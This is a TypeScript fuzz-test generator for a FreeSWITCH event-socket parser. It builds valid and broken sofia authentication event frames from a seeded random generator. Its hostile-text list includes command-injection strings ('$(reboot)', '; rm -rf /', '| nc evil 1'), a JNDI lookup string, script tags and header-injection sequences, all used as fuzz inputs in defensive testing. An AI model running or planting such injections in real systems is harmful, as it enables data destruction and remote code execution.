// Deterministic generators of hostile event-socket input for the fuzz tests: a seeded PRNG
// (failures reproduce from the seed printed by the test), valid sofia event frames in both
// formats, and every way to break them (bad or missing Content-Length, truncation, byte
// flips, invalid UTF-8, `%` sequences, huge headers, garbage, odd JSON values).
import { fsUrlEncode } from './esl-wire.js';

/** mulberry32: small, fast, good enough to drive a fuzzer; same seed → same stream. */
export class Rng {
  private s: number;
  constructor(seed: number) { this.s = seed >>> 0; }
  u32(): number {
    let x = (this.s = (this.s + 0x6d2b79f5) >>> 0);
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return (x ^ (x >>> 14)) >>> 0;
  }
  /** 0..n-1 */
  int(n: number): number { return this.u32() % n; }
  chance(p: number): boolean { return this.u32() < p * 0x1_0000_0000; }
  pick<T>(a: readonly T[]): T { return a[this.int(a.length)]!; }
  bytes(n: number): Buffer {
    const b = Buffer.allocUnsafe(n);
    for (let i = 0; i < n; i++) b[i] = this.u32() & 255;
    return b;
  }
}

const SUBCLASSES = ['sofia::pre_register', 'sofia::register_attempt', 'sofia::register_failure', 'sofia::register'];
const RESULTS = ['SUCCESS', 'RENEWED', 'STALE', 'FORBIDDEN', 'FORBIDDEN', 'forbidden', ''];
/** Addresses that must never be banned whatever arrives: the allow-list and the switch itself. */
export const PROTECTED = ['127.0.0.1', '127.3.4.5', '::1', '192.0.2.10'];
const HOSTILE_TEXT = [
  'friendly-scanner', 'sipvicious', 'Yealink SIP-T46S 66.86.0.15', 'Cisco/SPA504G-7.6.2c',
  'x\n{"level":"error","msg":"forged"}\n', '\u001b[31mred\u001b[0m\u001b]0;title\u0007', '"quoted" \'single\' \\back\\',
  '%C3', '%', '%%', '%ZZ', '%0A%0D', '%C3%28', '%F0%9F%98', '%00', 'a%2', '\u0000nul', '\u2028\u2029', '\ud800', '🙂',
  '$(reboot)', '`id`', '; rm -rf /', '| nc evil 1', '${jndi:ldap://x}', '<script>', '\r\nContent-Length: 5\r\n\r\n',
  'Content-Type: text/event-json\n\n{"Event-Name":"CUSTOM"}',
];

export function randomIp(r: Rng): string {
  switch (r.int(8)) {
    case 0: return r.pick(PROTECTED);
    case 1: return `2001:db8:${r.int(4).toString(16)}:${r.int(3)}::${r.int(65536).toString(16)}`;
    case 2: return `10.${r.int(4)}.${r.int(256)}.${r.int(256)}`;
    case 3: return r.pick(['not-an-ip', '999.1.1.1', '', '1.2.3', '::ffff:10.1.2.3', '0.0.0.0', 'fe80::1%eth0', '10.0.0.1\n']);
    default: return `10.200.${r.int(8)}.${r.int(64)}`;
  }
}

export function randomText(r: Rng, maxLen = 80): string {
  if (r.chance(0.5)) return r.pick(HOSTILE_TEXT);
  const n = r.int(maxLen);
  let s = '';
  for (let i = 0; i < n; i++) {
    const k = r.int(10);
    s += k < 6 ? String.fromCharCode(32 + r.int(95)) : k < 8 ? String.fromCharCode(r.int(32)) : k < 9 ? `%${r.int(256).toString(16).toUpperCase().padStart(2, '0')}` : String.fromCharCode(r.int(0xffff));
  }
  return s;
}

/** A sofia auth event's headers, with random (sometimes hostile) values. */
export function randomEventHeaders(r: Rng, timeUs: number): Record<string, string> {
  const subclass = r.pick(SUBCLASSES);
  const h: Record<string, string> = {
    'Event-Name': r.chance(0.97) ? 'CUSTOM' : r.pick(['HEARTBEAT', 'CHANNEL_CREATE', '', 'custom']),
    'Core-UUID': '21636369-8b52-9b4a-97b7-50923ceb3ffd',
    'FreeSWITCH-IPv4': '192.0.2.10',
    'FreeSWITCH-IPv6': '::1',
    'Event-Date-Timestamp': r.chance(0.98) ? String(timeUs) : r.pick(['', '-1', '1e20', '99999999999999999999', 'abc']),
    'Event-Subclass': subclass,
    'profile-name': r.chance(0.95) ? 'internal' : randomText(r, 20),
    'network-ip': randomIp(r),
    'network-port': r.chance(0.9) ? String(1024 + r.int(60000)) : randomText(r, 8),
    'user-agent': r.chance(0.6) ? r.pick(['friendly-scanner', 'Yealink SIP-T46S 66.86.0.15', 'PolycomVVX-VVX_411']) : randomText(r),
    'call-id': r.chance(0.7) ? `cid${r.int(5000)}` : randomText(r, 40),
    'from-user': r.chance(0.7) ? String(1000 + r.int(50)) : randomText(r, 30),
    'to-user': r.chance(0.7) ? String(1000 + r.int(50)) : randomText(r, 30),
    'username': r.chance(0.7) ? String(1000 + r.int(50)) : randomText(r, 30),
    'realm': 'pbx.example.com',
    'auth-result': r.pick(RESULTS),
    'registration-type': r.pick(['REGISTER', 'INVITE', 'OPTIONS']),
    'expires': String(r.int(4000)),
  };
  return h;
}

export function jsonEventFrame(body: Buffer | string, contentLength?: string): Buffer {
  const b = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
  return Buffer.concat([Buffer.from(`Content-Length: ${contentLength ?? b.length}\nContent-Type: text/event-json\n\n`, 'latin1'), b]);
}

export function plainEventFrame(h: Record<string, string>, rawPercent: boolean): Buffer {
  let text = '';
  for (const [k, v] of Object.entries(h)) text += `${k}: ${rawPercent ? v.replace(/[\r\n]/g, '') : fsUrlEncode(v)}\n`;
  text += '\n';
  const b = Buffer.from(text, 'utf8');
  return Buffer.concat([Buffer.from(`Content-Length: ${b.length}\nContent-Type: text/event-plain\n\n`, 'latin1'), b]);
}

function oddJsonValue(r: Rng, depth = 0): unknown {
  switch (r.int(depth > 2 ? 5 : 8)) {
    case 0: return null;
    case 1: return r.int(1e9) - 5e8;
    case 2: return r.chance(0.5);
    case 3: return randomText(r, 20);
    case 4: return '';
    case 5: return [oddJsonValue(r, depth + 1), oddJsonValue(r, depth + 1)];
    default: return { 'network-ip': oddJsonValue(r, depth + 1), x: oddJsonValue(r, depth + 1) };
  }
}

export interface FrameKinds {
  valid: number; plain: number; wrongLength: number; badLength: number; tooLarge: number; truncated: number;
  mutated: number; garbage: number; hugeHeader: number; oddJson: number; hugeField: number; heartbeat: number;
}

export function emptyKinds(): FrameKinds {
  return { valid: 0, plain: 0, wrongLength: 0, badLength: 0, tooLarge: 0, truncated: 0, mutated: 0, garbage: 0, hugeHeader: 0, oddJson: 0, hugeField: 0, heartbeat: 0 };
}

/** One piece of wire input (usually one frame, possibly broken), and what kind it is. */
export function randomFrame(r: Rng, timeUs: number, kinds: FrameKinds, maxBodyBytes: number): Buffer {
  const roll = r.int(1000);
  if (roll < 330) {
    kinds.valid++;
    return jsonEventFrame(JSON.stringify(randomEventHeaders(r, timeUs)));
  }
  if (roll < 430) {
    kinds.plain++;
    return plainEventFrame(randomEventHeaders(r, timeUs), r.chance(0.3));
  }
  if (roll < 520) {
    kinds.wrongLength++;
    const body = Buffer.from(JSON.stringify(randomEventHeaders(r, timeUs)), 'utf8');
    const delta = r.chance(0.5) ? -(1 + r.int(Math.min(60, body.length - 1))) : 1 + r.int(r.chance(0.9) ? 60 : 3000);
    return jsonEventFrame(body, String(body.length + delta));
  }
  if (roll < 570) {
    kinds.badLength++;
    return jsonEventFrame(JSON.stringify(randomEventHeaders(r, timeUs)), r.pick(['-1', '1e3', '99999999999', ' 12', '0x10', '', 'abc', '12 ', '+5', '١٢']));
  }
  if (roll < 571 && r.chance(0.1)) {
    kinds.tooLarge++;
    // Announces more than the limit, sends a little: the parser must skip, not buffer.
    return Buffer.from(`Content-Length: ${maxBodyBytes + 1 + r.int(1000)}\nContent-Type: text/event-json\n\n{"x":1}`, 'latin1');
  }
  if (roll < 640) {
    kinds.truncated++;
    const f = jsonEventFrame(JSON.stringify(randomEventHeaders(r, timeUs)));
    return f.subarray(0, r.int(f.length));
  }
  if (roll < 760) {
    kinds.mutated++;
    const f = Buffer.from(r.chance(0.5) ? jsonEventFrame(JSON.stringify(randomEventHeaders(r, timeUs))) : plainEventFrame(randomEventHeaders(r, timeUs), false));
    const n = 1 + r.int(8);
    for (let i = 0; i < n; i++) f[r.int(f.length)] = r.pick([0xff, 0xfe, 0xc3, 0x80, 0x0a, 0x25, 0x22, 0x5c, 0x00, r.int(256)]);
    if (r.chance(0.3)) return Buffer.concat([f.subarray(0, r.int(f.length)), r.bytes(r.int(16)), f.subarray(r.int(f.length))]);
    return f;
  }
  if (roll < 830) {
    kinds.garbage++;
    const g = r.bytes(1 + r.int(300));
    return r.chance(0.3) ? Buffer.concat([g, Buffer.from('\n\n')]) : g;
  }
  if (roll < 831) {
    kinds.hugeHeader++;
    // A header block past the 64 KB limit, with or without its end.
    const name = r.chance(0.5) ? 'X-Huge' : 'Content-Type';
    return Buffer.from(`${name}: ${'A'.repeat(65 * 1024 + r.int(4096))}${r.chance(0.5) ? '\n\n' : ''}`, 'latin1');
  }
  if (roll < 900) {
    kinds.oddJson++;
    const h: Record<string, unknown> = randomEventHeaders(r, timeUs);
    for (const k of ['network-ip', 'user-agent', 'Event-Date-Timestamp', 'profile-name', 'Event-Subclass', 'auth-result']) if (r.chance(0.3)) h[k] = oddJsonValue(r);
    const body = r.chance(0.1) ? JSON.stringify(oddJsonValue(r)) : JSON.stringify(h);
    return jsonEventFrame(body);
  }
  if (roll < 902) {
    kinds.hugeField++;
    const h = randomEventHeaders(r, timeUs);
    h[r.pick(['user-agent', 'from-user', 'call-id', 'to-user'])] = `${randomText(r, 10)}${'\u001b[2J"\n'.repeat(1)}${'B'.repeat(64 * 1024)}`;
    return jsonEventFrame(JSON.stringify(h));
  }
  kinds.heartbeat++;
  return jsonEventFrame(JSON.stringify({ 'Event-Name': 'HEARTBEAT', 'FreeSWITCH-IPv4': '192.0.2.10', 'Event-Date-Timestamp': String(timeUs) }));
}
